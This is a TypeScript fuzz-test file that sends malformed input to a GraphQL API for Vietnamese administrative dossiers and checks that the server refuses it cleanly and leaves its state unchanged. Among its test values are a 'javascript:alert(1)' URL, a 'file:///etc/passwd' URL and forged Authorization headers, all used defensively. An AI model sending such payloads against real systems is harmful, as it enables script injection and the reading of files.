    operation: 'mutation($input: UpsertAgencyInput!) { upsertAgency(input: $input) { code } }',
    variables: () =>
      wrapped(
        'input',
        poisoned<Record<string, unknown>>(
          [
            fc.record({ code: fc.oneof(agencyCodeInvalid, WRONG_TYPE, fc.constant(undefined)) }),
            fc.record({ name: fc.oneof(fc.constantFrom('', '   ', 'x'.repeat(301)), HUGE, WRONG_TYPE) }),
            fc.record({ level: fc.oneof(BAD, fc.constantFrom('WARD', 'commune')) }),
            fc.record({ parentCode: nonBlank(BAD_STRING).filter((s) => !KNOWN_AGENCIES.has(s.trim())) }),
            fc.record({ code: fc.constant('FUZZ_SELF'), parentCode: fc.constant('FUZZ_SELF') }),
            fc.record({
              endpointUrl: fc.oneof(
                fc.constantFrom(
                  'javascript:alert(1)',
                  'ftp://example.vn',
                  'not a url',
                  '',
                  'http://',
                  'file:///etc/passwd',
                ),
                HUGE,
                INJECTION,
                CONTROL,
              ),
            }),
            fc.record({ name: ILL_FORMED_TEXT }).map(({ name }) => ({
              code: 'FUZZ_OK_AGENCY',
              name,
              level: 'COMMUNE',
              parentCode: DESK,
              endpointUrl: 'http://127.0.0.1:9/',
            })),
          ],
          AGENCY_INPUT,
        ).map((input) => ({ input })),
      ),
  },
  upsertProcedure: {
    operation: 'mutation($input: ProcedureInput!) { upsertProcedure(input: $input) { version created } }',
    variables: () =>
      wrapped(
        'input',
        fc
          .oneof(
            fc
              .constantFrom(...MALFORMED_PROCEDURES)
              .map((m) => m.change(procedureBase(freshProcedureCode()))),
            // Valid but for one name or description: only the door stands in the way.
            fc
              .tuple(
                fc.constantFrom('name', 'description', 'field', 'step name', 'step description'),
                ILL_FORMED_TEXT,
              )
              .map(([where, text]) => {
                const base = procedureBase(freshProcedureCode());
                if (!where.startsWith('step ')) return { ...base, [where]: text };
                return { ...base, steps: [{ ...validStep('buoc-mot'), [where.slice(5)]: text }] };
              }),
            // A base with one field replaced by fuzz: the code, the receiving agency, a step's fields, the budget.
            fc
              .record({
                field: fc.constantFrom(
                  'code',
                  'receivingAgencyCode',
                  'onlineLevel',
                  'totalWorkingDays',
                  'steps',
                  'name',
                ),
                value: fc.oneof(BAD, fc.double(), fc.integer()),
              })
              .filter(({ field, value }) => !STILL_VALID[field](value))
              .map(({ field, value }) => ({ ...procedureBase(freshProcedureCode()), [field]: value })),
            fc
              .record({
                key: BAD,
                agencyCode: fc.oneof(BAD, fc.constant(DESK)),
                workingDays: fc.oneof(fc.double(), WRONG_TYPE),
                mode: fc.oneof(BAD, fc.constant('MANUAL')),
              })
              .filter(
                (step) => !(typeof step.key === 'string' && /^[a-z][a-z0-9_-]{0,63}$/.test(step.key.trim())),
              )
              .map((step) => ({
                ...procedureBase(freshProcedureCode()),
                steps: [{ ...validStep('a'), ...step }],
              })),
          )
          .map((input) => ({ input })),
      ),
  },
  importOfficialSchedule: {
    operation:
      'mutation($schedule: JSON!) { importOfficialSchedule(schedule: $schedule) { calendarVersion } }',
    variables: () => {
      const day = fc.record({
        date: fc.constantFrom('2031-02-03', '2031-02-04'),
        working: fc.boolean(),
        reason: fc.oneof(fc.constant(undefined), fc.constant('Nghỉ bù')),
      });
      const schedule = fc.record({
        year: fc.constant(2031),
        source: fc.constant('Thông báo'),
        days: fc.array(day),
      });
      return fc
        .oneof(
          schedule.map((s) => ({ ...s, year: 2032 })), // every date outside the year, or no days at all
          schedule.map(({ source: _source, ...s }) => s),
          fc.tuple(schedule, ILL_FORMED_TEXT).map(([s, source]) => ({ ...s, source })),
          fc.tuple(schedule, day).map(([s, d]) => ({ ...s, days: [d, d] })), // a duplicate date
          fc
            .tuple(
              schedule,
              day,
              WRONG_TYPE.filter((v) => typeof v !== 'boolean'),
            )
            .map(([s, d, working]) => ({
              ...s,
              days: [{ ...d, working }],
            })),
          fc.tuple(schedule, day).map(([s, d]) => ({ ...s, days: [{ ...d, date: '2031-02-30' }] })),
          fc.tuple(schedule, day).map(([s, d]) => ({ ...s, days: [{ ...d, reason: 'x'.repeat(501) }] })),
          schedule.map((s) => ({ ...s, decision: 'an unknown key' })),
          schedule.map((s) => ({ ...s, year: 1800 })),
          WRONG_TYPE,
        )
        .map((schedule) => ({ schedule }));
    },
  },
  setCalendarDays: {
    operation: 'mutation($days: [CalendarDayInput!]!) { setCalendarDays(days: $days) { calendarVersion } }',
    variables: () => {
      const day = fc.record({
        date: fc.constantFrom('2031-02-03', '2031-02-04'),
        working: fc.boolean(),
        reason: fc.oneof(ANY, fc.constant('Nghỉ bù')),
      });
      return fc.oneof(
        fc.constant({ days: [] }),
        fc.tuple(day, day).map(([a, b]) => ({ days: [a, { ...b, date: a.date }] })), // a duplicate date
        day.map((d) => ({ days: [{ ...d, reason: 'x'.repeat(301) }] })),
        fc.tuple(day, ILL_FORMED_TEXT).map(([d, reason]) => ({ days: [{ ...d, reason }] })),
        day.map((d) => ({ days: [{ ...d, date: '1800-01-01' }] })),
        fc
          .tuple(day, fc.oneof(BAD, fc.constantFrom('2031-02-30', '31/12/2031', '2031-2-3', '20310203')))
          .map(([d, date]) => ({ days: [{ ...d, date }] })),
        fc
          .tuple(
            day,
            WRONG_TYPE.filter((v) => typeof v !== 'boolean'),
          )
          .map(([d, working]) => ({ days: [{ ...d, working }] })),
        fc.constant({
          days: Array.from({ length: 401 }, (_, i) => ({
            date: new Date(Date.UTC(2032, 0, 1 + i)).toISOString().slice(0, 10),
            working: false,
          })),
        }),
        WRONG_TYPE.map((days) => ({ days })),
      );
    },
  },
};
const KNOWN_PROCEDURE_CODES = new Set(['1.004227', '2.000815', '1.004203', '2.000720', '1.003010']);

/** The richer selections queries and subscriptions are fuzzed with, so nested resolvers meet the odd arguments too. */
const SELECTIONS: Record<string, string> = {
  trackDossier:
    '{ code status dueAt originalDueAt steps { key status agencyName dueAt } apologies { reason } supplement { items } currentAgencies { code name } }',
  dossier:
    '{ code status statusReason steps { key status result failure } escalations { id status } apologies { id reason } supplement }',
  dossiers:
    '{ totalCount edges { cursor node { code status steps { key status } } } pageInfo { hasNextPage endCursor } }',
  agencyInbox:
    '{ totalCount edges { cursor node { key status dueAt dossier { code } } } pageInfo { hasNextPage endCursor } }',
  escalations:
    '{ totalCount edges { cursor node { id status reason dossierCode } } pageInfo { hasNextPage endCursor } }',
  performanceStats:
    '{ asOf rows { key name received doneLate onTimeRate averageProcessingWorkingDays } totals { received } }',
  procedure:
    '{ code version name steps { key after agencyCode } versions { version } policy { warningBeforeWorkingDays } }',
  procedures: '{ code name currentVersion }',
  procedureProblems: '{ path code message }',
  agencies: '{ code name parent { code } children { code } }',
  calendarDays: '{ date working source reason }',
  dueDate: '',
  me: '{ id role agencyCode label }',
  apiKeys: '{ id role prefix label revokedAt }',
  accounts: '{ id username name title role agencyCode active }',
  dossierUpdated: '{ code status steps { key status } }',
  agencyDossiersChanged: '{ code status }',
  escalationRaised: '{ id status agencyCode }',
  escalationChanged: '{ id status level agencyCode ageWorkingMinutes }',
  decision766Indicators:
    '{ unit code totalScore maxScore averageProcessingWorkingDays counts { received synced openOverdue } indicators { key rate score } }',
  dossiersOutOfSync: '{ dossierCode attempts delivered headSeq lastError lastSentAt }',
  nationalStatusMappings: '{ eventType statusCode updatedAt updatedBy }',
};

/** What a query or subscription argument is drawn from: real codes and keys at times, so some calls find data. */
const realText = () =>
  fc.constantFrom(
    fixture.active,
    fixture.finished,
    fixture.activeLookupKey,
    DESK,
    'CCT_AN_PHU',
    ACTIVE_PROCEDURE.code,
    ACTIVE_PROCEDURE.activeStep,
  );
const LEAF_ARBITRARIES = () => ({
  text: fc.oneof(
    { weight: 3, arbitrary: TEXT },
    { weight: 1, arbitrary: realText() },
    { weight: 1, arbitrary: fc.string({ unit: 'grapheme', maxLength: 20 }) },
  ),
  json: JSON_FUZZ,
  int: fc.oneof(fc.integer({ min: -5, max: 120 }), fc.constantFrom(0, -1, 2 ** 31 - 1, -(2 ** 31))),
  float: fc.oneof(
    fc.double({ noNaN: true, noDefaultInfinity: true }),
    fc.constantFrom(0, 0.5, 1, 2.5, -1, 366, 1e9),
  ),
  boolean: fc.boolean(),
  date: fc.oneof(
    fc.constantFrom(
      '2026-01-01',
      '2026-12-31',
      '2024-02-29',
      '2025-02-29',
      '0001-01-01',
      '9999-12-31',
      '2026-1-1',
    ),
    fc.date({ noInvalidDate: true }).map((d) => d.toISOString().slice(0, 10)),
    TEXT,
  ),
  dateTime: fc.oneof(DATE_TIME, FUTURE_DATE_TIME, TEXT),
  enumOther: fc.oneof(TEXT, fc.constantFrom('ACTIVE', 'admin', 'SYSTEM')),
  wrongType: WRONG_TYPE,
});

/** Latin-1 only (fetch refuses anything else in a header): what a broken or hostile client sends as Authorization. */
const HOSTILE_AUTHORIZATION = fc.oneof(
  fc.constantFrom(
    'Bearer',
    'Bearer ',
    'Basic dXNlcjpwYXNz',
    'Bearer lt_x_y',
    `Bearer ${'k'.repeat(8_000)}`,
    'Bearer a b',
    'bearer\tx',
  ),
  // Printable Latin-1: fetch itself refuses control characters and DEL in a header.
  fc
    .string({
      unit: fc
        .integer({ min: 0x20, max: 0xff })
        .filter((c) => c !== 0x7f)
        .map((c) => String.fromCharCode(c)),
      maxLength: 80,
    })
    .map((s) => `Bearer ${s}`),
);

// --- the checks ----------------------------------------------------------------------------------

/** Every string in the variables that could name a row (the snapshot looks those rows up). */
function candidates(value: unknown, out: string[] = []): string[] {
  if (typeof value === 'string') {
    const trimmed = value.trim();
    for (const s of [value, trimmed])
      if (s.length > 0 && s.length <= 300 && !s.includes('\u0000'))
        out.push(
          s.replace(/[\uD800-\uDBFF](?![\uDC00-\uDFFF])|(?<![\uD800-\uDBFF])[\uDC00-\uDFFF]/g, '\uFFFD'),
        );
  } else if (value instanceof RawJson) {
    // Nothing in it names a row.
  } else if (Array.isArray(value)) value.slice(0, 50).forEach((v) => candidates(v, out));
  else if (value && typeof value === 'object')
    Object.values(value)
      .slice(0, 50)
      .forEach((v) => candidates(v, out));
  return out;
}

/**
 * A checksum of everything a fuzzed call could change: the fixture dossiers and all their rows, rows
 * named by any string of the input (agencies, procedures and their versions, dossiers by
 * idempotency key, calendar days, API keys, accounts), the keys and accounts the fuzz keys created, the dossier events
 * they acted in, and their successful audit events (an anonymous caller's: on the fixtures).
 */
async function snapshot(named: string[]): Promise<string> {
  const dossiers = [fixture.finished, fixture.active];
  const actors = keyIds.map((id) => `%:${id}`);
  const [row] = await engine.db.sql.query<{ sum: string }>(
    `SELECT md5(coalesce(string_agg(t, E'\\n' ORDER BY t), '')) AS sum FROM (
       SELECT 'd' || to_jsonb(d)::text AS t FROM dossier d WHERE code = ANY($1) OR idempotency_key = ANY($2)
       UNION ALL SELECT 's' || to_jsonb(s)::text FROM dossier_step s WHERE dossier_code = ANY($1)
       UNION ALL SELECT 'e' || to_jsonb(e)::text FROM dossier_event e WHERE dossier_code = ANY($1)
       UNION ALL SELECT 'x' || to_jsonb(x)::text FROM escalation x WHERE dossier_code = ANY($1) OR id = ANY($2)
       UNION ALL SELECT 'l' || to_jsonb(l)::text FROM apology_letter l WHERE dossier_code = ANY($1)
       UNION ALL SELECT 'n' || (to_jsonb(n) - 'sent_at')::text FROM notification n WHERE dossier_code = ANY($1)
       UNION ALL SELECT 'a' || to_jsonb(a)::text FROM agency a WHERE code = ANY($2)
       UNION ALL SELECT 'p' || to_jsonb(p)::text FROM procedure p WHERE code = ANY($2) OR code LIKE 'FUZZ.%'
       UNION ALL SELECT 'v' || to_jsonb(v)::text FROM procedure_version v WHERE procedure_code = ANY($2) OR procedure_code LIKE 'FUZZ.%'
       UNION ALL SELECT 'c' || to_jsonb(c)::text FROM calendar_day c WHERE date = ANY($2)
       UNION ALL SELECT 'k' || to_jsonb(k)::text FROM api_key k WHERE id = ANY($2) OR created_by = ANY($3)
       UNION ALL SELECT 'u' || to_jsonb(u)::text FROM account u WHERE id = ANY($2) OR created_by = ANY($3)
       UNION ALL SELECT 'E' || count(*)::text FROM dossier_event WHERE actor LIKE ANY($4)
       UNION ALL SELECT 'A' || count(*)::text FROM audit_event
         WHERE outcome = 'OK' AND (principal_id = ANY($3) OR (principal_id IS NULL AND target = ANY($1)))
     ) rows`,
    [dossiers, named, keyIds, actors],
  );
  return row.sum;
}

interface GraphQLError {
  message: string;
  extensions?: { code?: string; details?: { field?: string } };
}
interface Answer {
  status: number;
  /** The response, or a subscription's first event. */
  body: { data?: Record<string, unknown> | null; errors?: GraphQLError[] };
  /** A subscription whose stream stayed open with nothing to say yet. */
  open?: boolean;
}

const headersFor = (key: string | undefined, authorization?: string): Record<string, string> => ({
  'content-type': 'application/json',
  ...(authorization !== undefined ? { authorization } : key ? { authorization: `Bearer ${key}` } : {}),
});

function parsed(text: string): Answer['body'] {
  try {
    return JSON.parse(text) as Answer['body'];
  } catch {
    return { errors: [{ message: `not JSON: ${text.slice(0, 200)}` }] };
  }
}

/** A request that got no HTTP answer at all (the server hung up): status 0, and the cause. */
const noAnswer = (error: unknown): Answer => ({
  status: 0,
  body: { errors: [{ message: `no HTTP answer: ${String((error as { cause?: unknown }).cause ?? error)}` }] },
});

async function postBody(body: string, key: string | undefined, authorization?: string): Promise<Answer> {
  tally.calls++;
  try {
    const response = await fetch(engine.api.url, {
      method: 'POST',
      headers: headersFor(key, authorization),
      body,
    });
    return { status: response.status, body: parsed(await response.text()) };
  } catch (error) {
    return noAnswer(error);
  }
}
const post = (query: string, variables: unknown, key: string | undefined, authorization?: string) =>
  postBody(requestBody(query, variables), key, authorization);

/** A subscription over SSE: its first event (an error or the first payload), or `open` when it stays quiet for `quietMs`. */
async function subscribeOnce(
  query: string,
  variables: unknown,
  key: string | undefined,
  quietMs = 400,
): Promise<Answer> {
  tally.calls++;
  const abort = new AbortController();
  const response = await fetch(engine.api.url, {
    method: 'POST',
    headers: { ...headersFor(key), accept: 'text/event-stream' },
    body: requestBody(query, variables),
    signal: abort.signal,
  }).catch((error: unknown) => error as Error);
  if (response instanceof Error) return noAnswer(response);
  if (!response.headers.get('content-type')?.includes('text/event-stream'))
    return { status: response.status, body: parsed(await response.text()) };
  const reader = response.body!.getReader();
  const decoder = new TextDecoder();
  let buffer = '';
  const timer = setTimeout(() => abort.abort(), quietMs);
  try {
    for (;;) {
      const chunk = await reader.read().catch(() => ({ done: true as const, value: undefined }));
      if (chunk.done) return { status: response.status, body: {}, open: abort.signal.aborted };
      buffer += decoder.decode(chunk.value, { stream: true });
      for (let end = buffer.indexOf('\n\n'); end >= 0; end = buffer.indexOf('\n\n')) {
        const lines = buffer.slice(0, end).split('\n');
        buffer = buffer.slice(end + 2);
        const event = lines
          .find((l) => l.startsWith('event:'))
          ?.slice(6)
          .trim();
        const data = lines
          .filter((l) => l.startsWith('data:'))
          .map((l) => l.slice(5).trim())
          .join('\n');
        if (event === 'complete') return { status: response.status, body: {} };
        if (data) return { status: response.status, body: parsed(data) };
      }
    }
  } finally {
    clearTimeout(timer);
    abort.abort();
  }
}

const ask = (
  kind: OperationKind,
  query: string,
  variables: unknown,
  key: string | undefined,
  authorization?: string,
) =>
  kind === 'subscription' ? subscribeOnce(query, variables, key) : post(query, variables, key, authorization);

/** Who may call a field at all, from its authScopes in the executable schema (authorization-matrix.test.ts checks them). */
function mayCall(kind: OperationKind, field: string, role: Role): boolean {
  const type = {
    query: executableSchema.getQueryType(),
    mutation: executableSchema.getMutationType(),
    subscription: executableSchema.getSubscriptionType(),
  }[kind];
  const scopes =
    (type?.getFields()[field]?.extensions as { pothosOptions?: { authScopes?: Record<string, boolean> } })
      .pothosOptions?.authScopes ?? {};
  if (scopes.public) return true;
  if (role === 'anonymous') return false;
  return Boolean(scopes.authenticated || scopes[role]);
}

const codesOf = (answer: Answer) => (answer.body.errors ?? []).map((e) => e.extensions?.code);

/**
 * The rules every answer keeps, as a list of what is wrong (empty: fine): no 5xx, no uncoded or
 * unexpected error; with trouble (ill-formed text, over-deep JSON) in the arguments, a refusal by
 * the door (VALIDATION_FAILED naming a troubled place), by GraphQL's coercion (VALIDATION_FAILED),
 * by authorization, or by the body limit, and never anything a resolver would say.
 */
function problemsWith(
  answer: Answer,
  call: { kind: OperationKind; field: string; role: Role; trouble: Trouble[] },
): string[] {
  const problems: string[] = [];
  const codes = codesOf(answer);
  if (answer.status >= 500 || answer.status === 0) problems.push(`HTTP ${answer.status}`);
  if (codes.some((c) => c === undefined || !PRODUCT_CODES.has(c)))
    problems.push(`codes ${JSON.stringify(codes)}`);
  if (call.trouble.length > 0) {
    if (answer.open || codes.length === 0)
      problems.push(
        `not refused, though the arguments hold ${call.trouble[0].kind} input at ${call.trouble[0].path}`,
      );
    if (answer.body.data?.[call.field] != null) problems.push('data returned for troubled input');
    const allowed = new Set([
      'VALIDATION_FAILED',
      'REQUEST_ENTITY_TOO_LARGE',
      ...(mayCall(call.kind, call.field, call.role) ? [] : ['FORBIDDEN']),
    ]);
    if (codes.some((c) => !allowed.has(c!)))
      problems.push(`troubled input answered ${JSON.stringify(codes)} (allowed: ${[...allowed].join(', ')})`);
    for (const error of answer.body.errors ?? []) {
      const named = error.extensions?.details?.field;
      if (
        named !== undefined &&
        !call.trouble.some((t) => named === t.path || (t.kind === 'too deep' && named.startsWith(t.path)))
      ) {
        problems.push(`the refusal names ${named}, not one of ${call.trouble.map((t) => t.path).join(', ')}`);
      }
    }
  }
  return problems;
}

/** Trouble in the variables the operation declares (each variable is the argument of the same name). */
const troubleInVariables = (variables: Record<string, unknown>) =>
  Object.entries(variables ?? {}).flatMap(([name, value]) => troubleIn(value, name));

function fail(field: string, role: Role, problems: string[], variables: unknown, answer: Answer): never {
  throw new Error(
    `${field} as ${role}: ${problems.join('; ')}\n  variables: ${brief(variables)}\n  answer: HTTP ${answer.status} ${answer.open ? '(stream open)' : brief(answer.body)}`,
  );
}

/** Failures report our own short description (100 kB counterexamples would flood the output) and how to replay. */
const fcOptions = (seed: number, property: string): fc.Parameters<unknown> => ({
  seed: propertySeed(seed, property),
  endOnFailure: true,
  reporter(details) {
    if (!details.failed) return;
    const cause =
      details.errorInstance instanceof Error ? details.errorInstance.message : String(details.errorInstance);
    throw new Error(
      `${cause}\n  (replay: FUZZ_SEED=${seed}; fast-check seed ${details.seed} of "${property}", path "${details.counterexamplePath}")`,
    );
  },
});

// --- the tests -----------------------------------------------------------------------------------

const SDL = readFileSync(path.join(__dirname, '..', '..', 'schema.graphql'), 'utf8');
const SCHEMA = buildSchema(SDL);
const FIELDS = rootFields(SCHEMA);
const fieldsOf = (kind: OperationKind) => FIELDS.filter((f) => f.kind === kind);
const MUTATIONS = fieldsOf('mutation')
  .map((f) => f.name)
  .sort();
const QUERIES_AND_SUBSCRIPTIONS = FIELDS.filter((f) => f.kind !== 'mutation');
const label = (f: RootField) => `${f.kind} ${f.name}`;

describe('coverage', () => {
  test('every mutation of schema.graphql has a fuzz case', () => {
    expect(Object.keys(CASES).sort()).toEqual(MUTATIONS);
  });
  test('every query and subscription of schema.graphql has a fuzz case (its selection)', () => {
    expect(QUERIES_AND_SUBSCRIPTIONS.map((f) => f.name).sort()).toEqual(Object.keys(SELECTIONS).sort());
  });
});

/** A batch is one test (one field, every role and seed): the engine must still work for everyone after it. */
const proveAliveAfterEach = () =>
  afterEach(async () => {
    const started = Date.now();
    await proveEngineAlive(engine, livenessKeys);
    tally.liveness++;
    tally.livenessMs += Date.now() - started;
  });

describe('ill-formed text in every argument is refused at the door, naming it', () => {
  proveAliveAfterEach();

  /** What each kind of leaf gets: text leaves ill-formed text; JSON leaves also ill-formed keys and over-deep nesting. */
  const illFormedFor = (leaf: Leaf): fc.Arbitrary<unknown> =>
    leaf.typeName === 'JSON'
      ? fc.oneof(ILL_FORMED_TEXT, REFUSED_JSON)
      : ILL_FORMED_TEXT.filter((s) => s.length < 1_000_000);

  test.each(FIELDS.filter((f) => leaves(f.field).length > 0).map((f) => [label(f), f] as const))(
    '%s',
    async (_label, root) => {
      const operation = operationFor(root, SELECTIONS[root.name]);
      const base = neutralArguments(root.field);
      const fieldLeaves = leaves(root.field);
      const everyLeaf = fc.tuple(...fieldLeaves.map(illFormedFor));
      for (const role of ROLES) {
        for (const seed of SEEDS) {
          await fc.assert(
            fc.asyncProperty(everyLeaf, async (values) => {
              for (const [i, leaf] of fieldLeaves.entries()) {
                const variables = withValueAt(base, leaf.segments, values[i]);
                const trouble = troubleInVariables(variables);
                const named = candidates(variables);
                const before = await snapshot(named);
                const answer = await ask(root.kind, operation, variables, keys[role]);
                const problems = problemsWith(answer, { kind: root.kind, field: root.name, role, trouble });
                // Text leaves: the door itself answers, and names the very place.
                const textLeaf = ['String', 'ID', 'JSON'].includes(leaf.typeName);
                if (textLeaf && mayCall(root.kind, root.name, role)) {
                  const error = answer.body.errors?.[0];
                  const field = error?.extensions?.details?.field;
                  if (
                    codesOf(answer).join() !== 'VALIDATION_FAILED' ||
                    field === undefined ||
                    !field.startsWith(leaf.path)
                  ) {
                    problems.push(`expected one VALIDATION_FAILED naming ${leaf.path}`);
                  }
                }
                if ((await snapshot(named)) !== before) problems.push('state changed');
                if (problems.length > 0)
                  fail(`${root.name} (${leaf.path})`, role, problems, variables, answer);
              }
            }),
            {
              ...fcOptions(seed, `ill-formed ${root.name}/${role}`),
              numRuns: Math.max(1, Math.ceil(NUM_RUNS / 3)),
            },
          );
        }
      }
    },
  );
});

describe('fuzzed mutations are refused with a code and change nothing, for every role', () => {
  proveAliveAfterEach();

  test.each(MUTATIONS)('%s', async (field) => {
    const spec = CASES[field];
    if (!spec) throw new Error(`no fuzz case for ${field}`);
    for (const role of ROLES) {
      for (const seed of SEEDS) {
        await fc.assert(
          fc.asyncProperty(spec.variables(), async (variables) => {
            const named = candidates(variables);
            const before = await snapshot(named);
            const answer = await post(spec.operation, variables, keys[role]);
            const problems = problemsWith(answer, {
              kind: 'mutation',
              field,
              role,
              trouble: troubleInVariables(variables),
            });
            if (codesOf(answer).length === 0) problems.push('no error');
            if (answer.body.data?.[field] != null) problems.push('data returned');
            if ((await snapshot(named)) !== before) problems.push('state changed');
            if (problems.length > 0) fail(field, role, problems, variables, answer);
          }),
          { ...fcOptions(seed, `${field}/${role}`), numRuns: NUM_RUNS },
        );
      }
    }
  });
});

describe('fuzzed queries and subscriptions are answered or refused with a code, never a 5xx, and change nothing', () => {
  proveAliveAfterEach();

  test.each(QUERIES_AND_SUBSCRIPTIONS.map((f) => [label(f), f] as const))('%s', async (_label, root) => {
    const operation = operationFor(root, SELECTIONS[root.name]);
    // A field without arguments: the one input left is the Authorization header.
    const input = fc.record({
      variables: argumentsArbitrary(root.field, LEAF_ARBITRARIES()),
      authorization:
        root.field.args.length === 0 && root.kind === 'query'
          ? fc.option(HOSTILE_AUTHORIZATION, { freq: 2 })
          : fc.constant(null),
    });
    for (const role of ROLES) {
      for (const seed of SEEDS) {
        await fc.assert(
          fc.asyncProperty(input, async ({ variables, authorization }) => {
            const named = candidates(variables);
            const before = await snapshot(named);
            const answer = await ask(root.kind, operation, variables, keys[role], authorization ?? undefined);
            const problems = problemsWith(answer, {
              kind: root.kind,
              field: root.name,
              role,
              trouble: troubleInVariables(variables),
            });
            if (authorization !== null && answer.status < 400 && codesOf(answer).join() !== 'UNAUTHENTICATED')
              problems.push(
                `a hostile Authorization header answered ${answer.status} ${JSON.stringify(codesOf(answer))}`,
              );
            if ((await snapshot(named)) !== before) problems.push('state changed');
            if (problems.length > 0) fail(root.name, role, problems, { variables, authorization }, answer);
          }),
          { ...fcOptions(seed, `${root.name}/${role}`), numRuns: NUM_RUNS },
        );
      }
    }
  });
});

/** Where the literal test writes its text, as the door names those places. */
const LITERAL_ARGUMENTS: Record<string, string[]> = {
  completeStep: ['input.dossierCode', 'input.stepKey'],
  withdrawDossier: ['input.dossierCode', 'input.note'],
  resolveEscalation: ['input.escalationId'],
  revokeApiKey: ['id'],
};

describe('literal (inline) arguments with hostile strings', () => {
  proveAliveAfterEach();

  test('hostile text elsewhere in the request (operation name, a comment, an unused variable, extensions) is answered without a 5xx', async () => {
    for (const seed of SEEDS) {
      await fc.assert(
        fc.asyncProperty(
          TEXT,
          fc.constantFrom('operationName', 'comment', 'unused variable', 'extensions'),
          async (text, where) => {
            const query =
              where === 'comment'
                ? `# ${text.replace(/[\r\n]/g, ' ')}\nquery Me { me { id } }`
                : 'query Me { me { id } }';
            const body: Record<string, unknown> = {
              query,
              variables: where === 'unused variable' ? { unused: text } : {},
            };
            if (where === 'operationName') body.operationName = text;
            if (where === 'extensions') body.extensions = { note: text };
            const answer = await postBody(JSON.stringify(body), keys.portal);
            const problems = problemsWith(answer, {
              kind: 'query',
              field: 'me',
              role: 'portal',
              trouble: [],
            });
            if (problems.length > 0) fail(`me (${where})`, 'portal', problems, text, answer);
          },
        ),
        { ...fcOptions(seed, 'elsewhere'), numRuns: NUM_RUNS * 4 },
      );
    }
  });

  test('a fuzzed string written into the document itself is refused with a code, never a 500', async () => {
    for (const seed of SEEDS) {
      await fc.assert(
        fc.asyncProperty(
          TEXT,
          fc.constantFrom('completeStep', 'withdrawDossier', 'resolveEscalation', 'revokeApiKey'),
          async (text, field) => {
            const literal = JSON.stringify(text);
            const operation = {
              completeStep: `mutation { completeStep(input: { dossierCode: ${literal}, stepKey: ${literal} }) { code } }`,
              withdrawDossier: `mutation { withdrawDossier(input: { dossierCode: ${literal}, note: ${literal} }) { code } }`,
              resolveEscalation: `mutation { resolveEscalation(input: { escalationId: ${literal} }) { code } }`,
              revokeApiKey: `mutation { revokeApiKey(id: ${literal}) { id } }`,
            }[field]!;
            const role: Role = field === 'revokeApiKey' ? 'admin' : 'agency';
            const named = candidates(text);
            const before = await snapshot(named);
            const answer = await post(operation, {}, keys[role]);
            const trouble = isIllFormed(text)
              ? LITERAL_ARGUMENTS[field].map((at): Trouble => ({ path: at, kind: 'ill-formed' }))
              : [];
            const problems = problemsWith(answer, { kind: 'mutation', field, role, trouble });
            if (codesOf(answer).length === 0) problems.push('no error');
            if ((await snapshot(named)) !== before) problems.push('state changed');
            if (problems.length > 0) fail(field, role, problems, text, answer);
          },
        ),
        { ...fcOptions(seed, 'literal'), numRuns: NUM_RUNS * 4 },
      );
    }
  });
});

describe('valid but odd text goes all the way through', () => {
  const SUBMIT =
    'mutation($input: SubmitDossierInput!) { submitDossier(input: $input) { dossier { code } } }';

  test('a SYSTEM dossier with an odd applicant and form (hostile-looking keys, thousands of keys, 30 levels, 800 kB) is accepted, kept as sent, and completes', async () => {
    for (const seed of SEEDS) {
      await fc.assert(
        fc.asyncProperty(
          ODD_JSON,
          ODD_TEXT.filter((s) => s.trim().length > 0),
          async (formData, name) => {
            const input = {
              procedureCode: '2.000720',
              applicant: { name, idNumber: '079190001234' },
              channel: 'ONLINE',
              formData,
              idempotencyKey: randomUUID(),
            };
            const answer = await post(SUBMIT, { input }, keys.portal);
            if (answer.body.errors)
              fail('submitDossier', 'portal', [`refused ${JSON.stringify(codesOf(answer))}`], input, answer);
            const code = (answer.body.data!.submitDossier as { dossier: { code: string } }).dossier.code;
            await waitForState(engine, code, (s) => s.status === 'COMPLETED', 30_000);
            const row = await engine.db.prisma.dossier.findUniqueOrThrow({
              where: { code },
              select: { formData: true },
            });
            expect(row.formData).toEqual(formData);
          },
        ),
        { ...fcOptions(seed, 'odd forms'), numRuns: NUM_RUNS },
      );
    }
  });

  test('an agency completes a MANUAL step with an odd result: accepted and kept as sent', async () => {
    const COMPLETE =
      'mutation($input: CompleteStepInput!) { completeStep(input: $input) { code steps { key status } } }';
    for (const seed of SEEDS) {
      await fc.assert(
        // A result is capped at 16 kB of JSON (services/actions/dossier-actions.ts): the odd ones within it.
        fc.asyncProperty(
          ODD_JSON.filter((v) => Buffer.byteLength(JSON.stringify(v)) <= 16_384),
          async (result) => {
            const code = await submit(engine, FINISHED_PROCEDURE.code);
            await waitForState(engine, code, (s) => s.steps[0].status === 'ACTIVE');
            const input = { dossierCode: code, stepKey: FINISHED_PROCEDURE.step, result };
            const answer = await post(COMPLETE, { input }, livenessKeys.agency);
            if (answer.body.errors)
              fail('completeStep', 'agency', [`refused ${JSON.stringify(codesOf(answer))}`], input, answer);
            await waitForState(engine, code, (s) => s.status === 'COMPLETED');
            const step = await eventually(
              async () =>
                (await engine.db.prisma.dossierStep.findFirst({
                  where: { dossierCode: code, status: 'DONE' },
                })) ?? undefined,
            );
            expect(step.result).toEqual(result);
          },
        ),
        { ...fcOptions(seed, 'odd results'), numRuns: NUM_RUNS },
      );
    }
  });
});

describe('malformed procedure definitions get precise errors', () => {
  test.each(MALFORMED_PROCEDURES.map((m) => [m.name, m] as const))('%s', async (_name, malformed) => {
    const input = malformed.change(procedureBase(freshProcedureCode()));
    const answer = await post(CASES.upsertProcedure.operation, { input }, keys.admin);
    expect(answer.status).toBeLessThan(500);
    expect(answer.body.errors?.map((e) => e.extensions?.code)).toEqual(['VALIDATION_FAILED']);
    const details = (
      answer.body.errors?.[0].extensions as {
        details?: { errors?: { path: string; code: string; message: string }[] };
      }
    ).details;
    expect(details?.errors?.length).toBeGreaterThan(0);
    for (const error of details!.errors!)
      expect(error).toEqual({
        path: expect.any(String),
        code: expect.any(String),
        message: expect.any(String),
      });
    if (malformed.error) expect(details!.errors).toContainEqual(expect.objectContaining(malformed.error));
    // The message names each problem with its path, so an administrator fixes it in one pass.
    for (const error of details!.errors!) expect(answer.body.errors![0].message).toContain(error.message);
    expect(await engine.db.prisma.procedure.findUnique({ where: { code: input.code } })).toBeNull();
  });
});

describe('bugs the fuzzer found, kept', () => {
  proveAliveAfterEach();

  test('issue #14: an agency completeStep with stepKey "\\uD800" on its active step is refused, naming input.stepKey', async () => {
    const before = await snapshot([]);
    const answer = await post(
      CASES.completeStep.operation,
      { input: { dossierCode: fixture.active, stepKey: '\uD800' } },
